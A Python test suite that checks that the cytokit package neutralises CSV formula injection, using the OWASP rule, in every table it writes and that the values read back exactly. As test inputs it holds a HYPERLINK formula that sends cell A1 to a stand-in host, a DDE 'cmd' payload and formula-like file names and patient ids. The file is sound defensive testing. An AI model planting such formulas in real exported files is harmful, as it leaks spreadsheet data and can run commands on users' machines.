"""Every CSV cytokit writes is safe in a spreadsheet, and reads back to the raw values.

The rule is OWASP's ("CSV Injection", owasp.org/www-community/attacks/CSV_Injection):
a cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is run
as a formula by Excel, LibreOffice and Google Sheets, so such a text cell gets
a single quote in front. A plain decimal number (``-12``) is no formula and is
left alone. The checks below read the files with Python's `csv` module, not
with cytokit, and compare with the values put into the study.
"""

from __future__ import annotations

import csv
import dataclasses
import json
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from study_helpers import make_study, simulated_strategy

from cytokit._io import neutralise_cell, restore_cell, write_csv
from cytokit.analysis.results import Results, load_results, write_results
from cytokit.cli.app import run
from cytokit.simulate import benchmark_file, preset_design, simulate_study
from cytokit.study import load_study

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"details")'
NEGATIVE = "-12"  # a patient id that is a negative number: text, but no formula
QUOTED = "'+high"  # a stratum that really starts with a quote (then a trigger)


def decimal(text: str) -> bool:
    """A plain decimal number, by float() and the characters a number is written with."""
    try:
        float(text)
    except ValueError:
        return False
    return re.fullmatch(r"[0-9.eE+-]+", text) is not None


def unsafe_cells(path: Path) -> list[str]:
    """Cells of a CSV file that a spreadsheet would run as a formula."""
    with path.open(newline="", encoding="utf-8") as fh:
        return [
            cell
            for row in csv.reader(fh)
            for cell in row
            if cell.startswith(TRIGGERS) and not decimal(cell)
        ]


def cells(path: Path, column: str) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [row[column] for row in csv.DictReader(fh)]


# -- the cell rule ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        ("=1+1", "'=1+1"),
        (EVIL, "'" + EVIL),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-12", "-12"),  # numbers, even as text, stay numbers
        ("-7.5e-3", "-7.5e-3"),
        ("+3", "+3"),
        ("CD3-CD56+", "CD3-CD56+"),
        ("'high", "'high"),  # a quote before harmless text is kept as it is
        ("'=x", "''=x"),  # a quote before a trigger gets one more, so reading it back is exact
        ("''-7", "'''-7"),
        ("", ""),
    ],
)
def test_cell_rule(raw, written):
    assert neutralise_cell(raw) == written
    assert restore_cell(written) == raw


@settings(max_examples=400, deadline=None, derandomize=True, database=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r'0123456789.eEax ,\"\n"), max_size=8) | st.text())
def test_cells_round_trip_and_never_start_a_formula(raw):
    cell = neutralise_cell(raw)
    assert restore_cell(cell) == raw
    assert not cell.startswith(TRIGGERS) or decimal(cell)
    assert cell in (raw, "'" + raw)
    assert neutralise_cell(12.5) == 12.5 and neutralise_cell(-3) == -3


def test_write_csv_round_trips_through_the_csv_module(tmp_path):
    values = [EVIL, NEGATIVE, QUOTED, "\r=1", "plain", "'plain"]
    write_csv(tmp_path / "t.csv", [{"=head": v, "n": -1.5} for v in values], ("=head", "n"))
    assert unsafe_cells(tmp_path / "t.csv") == []
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["'=head", "n"]
    assert [restore_cell(r[0]) for r in rows[1:]] == values
    assert {r[1] for r in rows[1:]} == {"-1.5"}


def test_results_tables_round_trip_any_text(tmp_path):
    texts = [EVIL, NEGATIVE, QUOTED, "\r=1", "a\r\nb", "\n@x", 'say "=1"', "", None, "plain"]
    samples = pd.DataFrame({"patient": texts, "day": range(len(texts)), "note": texts[::-1]})
    write_results(Results(samples=samples, study={"name": EVIL}), tmp_path)
    assert unsafe_cells(tmp_path / "samples.csv") == []
    back = load_results(tmp_path)
    assert back.study == {"name": EVIL}
    assert back.samples["patient"].tolist() == [t if t else np.nan for t in texts]
    assert back.samples["note"].tolist() == [t if t else np.nan for t in texts[::-1]]


# -- cytokit gate -----------------------------------------------------------------------------


def test_gate_tables_neutralise_file_names(tmp_path, monkeypatch, capsys):
    good, bad = "=1+2.fcs", "@SUM(A1).fcs"
    benchmark_file(tmp_path / good, n_events=2000, seed=1, day=7, workers=1)
    (tmp_path / bad).write_bytes(b"FCS3.1" + bytes(60))
    simulated_strategy().to_gatingml(tmp_path / "strategy.xml")
    monkeypatch.chdir(tmp_path)  # relative names, so the file cells start with the trigger
    code = run(["gate", "strategy.xml", good, bad, "--out", "out", "--scheduler", "serial"])
    assert code == 0, capsys.readouterr().err
    for name in ("counts", "statistics", "failures"):
        assert unsafe_cells(tmp_path / "out" / f"{name}.csv") == [], name
    assert set(cells(tmp_path / "out" / "counts.csv", "file")) == {"'" + good}
    assert set(cells(tmp_path / "out" / "statistics.csv", "file")) == {"'" + good}
    assert cells(tmp_path / "out" / "failures.csv", "file") == ["'" + bad]


# -- cytokit analyze, load_results and the simulator ------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, Path]:
    """A simulated study whose patient ids, stratum and sample type look like formulas,
    analysed into ``out`` (no report)."""
    root = tmp_path_factory.mktemp("csv")
    design = preset_design("sample", seed=5, n_patients=2, n_events=2500, days=(-7, 7))
    study = make_study(root / "study", dataclasses.replace(design, sample_type="@PB"))
    ids = {"P01": EVIL, "P02": NEGATIVE}
    for name in ("manifest.csv", "infusions.csv"):
        with (study / name).open(newline="", encoding="utf-8") as fh:
            rows = [{k: restore_cell(v) for k, v in r.items()} for r in csv.DictReader(fh)]
        for row in rows:
            row["patient"] = ids[row["patient"]]
            if name == "manifest.csv" and row["patient"] == NEGATIVE:
                row["stratum"] = QUOTED
        write_csv(study / name, rows, list(rows[0]))
    out = root / "out"
    code = run(["analyze", str(study), "--out", str(out), "--workers", "1", "--no-report"])
    assert code == 0
    return study, out


def test_simulated_manifest_is_neutralised_and_read_back_raw(tmp_path):
    fresh = tmp_path / "fresh"
    design = preset_design("sample", seed=5, n_patients=1, n_events=500, days=(7,))
    simulate_study(fresh, dataclasses.replace(design, sample_type="@PB"), workers=1)
    assert set(cells(fresh / "manifest.csv", "sample_type")) == {"'@PB"}
    for path in [*fresh.glob("*.csv"), *(fresh / "truth").glob("*.csv")]:
        assert unsafe_cells(path) == [], path.name
    assert {r.sample_type for r in load_study(fresh, check_files=False).rows} == {"@PB"}


def test_analysis_tables_are_neutralised(hostile):
    _, out = hostile
    tables = sorted(out.glob("*.csv"))
    assert len(tables) >= 13
    with_patients = 0
    for path in tables:
        assert unsafe_cells(path) == [], path.name
        with path.open(newline="", encoding="utf-8") as fh:
            header = next(csv.reader(fh), [])
        if "patient" in header and cells(path, "patient"):
            assert set(cells(path, "patient")) == {"'" + EVIL, NEGATIVE}, path.name
            with_patients += 1
    assert with_patients >= 9  # samples, counts, chimerism, thresholds, phenotype, trends, ...
    assert set(cells(out / "samples.csv", "stratum")) == {"NK", "'" + QUOTED}
    assert set(cells(out / "samples.csv", "sample_type")) == {"'@PB"}


def test_json_keeps_raw_values_and_load_results_gives_them_back(hostile):
    _, out = hostile
    study = json.loads((out / "study.json").read_text(encoding="utf-8"))
    assert {p["id"] for p in study["patients"]} == {EVIL, NEGATIVE}
    results = load_results(out)
    for name in ("samples", "counts", "chimerism", "thresholds", "phenotype", "trends", "qc"):
        frame = getattr(results, name)
        assert set(frame["patient"]) == {EVIL, NEGATIVE}, name
    assert set(results.samples["stratum"]) == {"NK", QUOTED}
    assert set(results.samples["sample_type"]) == {"@PB"}
    assert set(results.infusions["patient"]) == {EVIL, NEGATIVE}


def test_restore_frame_leaves_the_input_and_untouched_columns_alone():
    """Columns with no quoted cell are kept as they are (not mapped cell by cell); the
    frame restored is a new one and the one read is unchanged."""
    import pandas as pd

    from cytokit._io import neutralise_frame, restore_frame

    raw = pd.DataFrame({"file": ["a.fcs", None, "b.fcs"], "note": ["=1+1", "-x", "ok"],
                        "n": [1, 2, 3]})  # fmt: skip
    written = neutralise_frame(raw)
    assert written["note"].tolist() == ["'=1+1", "'-x", "ok"]
    before = written.copy()
    back = restore_frame(written)
    pd.testing.assert_frame_equal(back, raw)
    pd.testing.assert_frame_equal(written, before)
